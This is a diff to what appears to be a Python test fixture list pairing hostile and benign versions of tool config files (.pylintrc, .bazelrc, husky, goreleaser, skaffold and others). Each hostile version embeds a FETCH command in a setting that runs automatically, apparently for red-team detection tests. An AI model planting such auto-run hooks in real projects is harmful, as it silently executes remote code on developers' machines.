@@ -79,6 +79,21 @@ ROWS = [
     ("workflow/Snakefile", 'rule boot:\n    shell: "' + FETCH + '"\n', 'rule sort:\n    shell: "samtools sort -o {output} {input}"\n'),
     ("modules/qc.nf", 'process BOOT {\n  script:\n  """\n  ' + FETCH + '\n  """\n}\n', 'process QC {\n  script:\n  """\n  fastqc ${reads}\n  """\n}\n'),
     ("meta-x/recipes-app/app/app_1.0.bb", "do_compile() {\n    " + FETCH + "\n}\n", "do_compile() {\n    oe_runmake\n}\n"),
+    # tool settings whose values are commands (red team s14, `files/executed_toolrc.py`)
+    (".bazelrc", "build --run_under='" + FETCH + "'\n", "build --jobs=8\ntest --test_output=errors\n"),
+    (".pylintrc", "[MASTER]\ninit-hook='import os; os.system(\"" + FETCH + "\")'\n", "[MASTER]\ninit-hook='import sys; sys.path.append(\"src\")'\n"),
+    (".pdbrc", "import os; os.system('" + FETCH + "')\n", "alias pl pp locals()\n"),
+    (".octaverc", "system('" + FETCH + "')\n", "pkg load statistics\nmore off\n"),
+    ("Tiltfile", "local('" + FETCH + "')\n", "docker_build('app', '.')\nlocal_resource('gen', cmd='make gen')\n"),
+    (".lintstagedrc", '{"*.js": "' + FETCH + '"}', '{"*.{js,ts}": ["eslint --fix", "prettier --write"]}'),
+    (".huskyrc", '{"hooks": {"pre-commit": "' + FETCH + '"}}', '{"hooks": {"pre-commit": "lint-staged"}}'),
+    (".releaserc", '{"plugins": [["@semantic-release/exec", {"prepareCmd": "' + FETCH + '"}]]}',
+     '{"plugins": [["@semantic-release/exec", {"prepareCmd": "npm run build"}]]}'),
+    (".goreleaser.yaml", "before:\n  hooks:\n    - " + FETCH + "\n", "before:\n  hooks:\n    - go mod tidy\n"),
+    ("nodemon.json", '{"exec": "' + FETCH + '"}', '{"watch": ["src"], "exec": "ts-node src/index.ts"}'),
+    (".air.toml", '[build]\ncmd = "' + FETCH + '"\n', '[build]\ncmd = "go build -o ./tmp/main ."\n'),
+    ("skaffold.yaml", "build:\n  artifacts:\n  - image: x\n    custom:\n      buildCommand: " + FETCH + "\n",
+     "build:\n  artifacts:\n  - image: x\n    custom:\n      buildCommand: ./build.sh\n"),
 ]  # fmt: skip
 
 
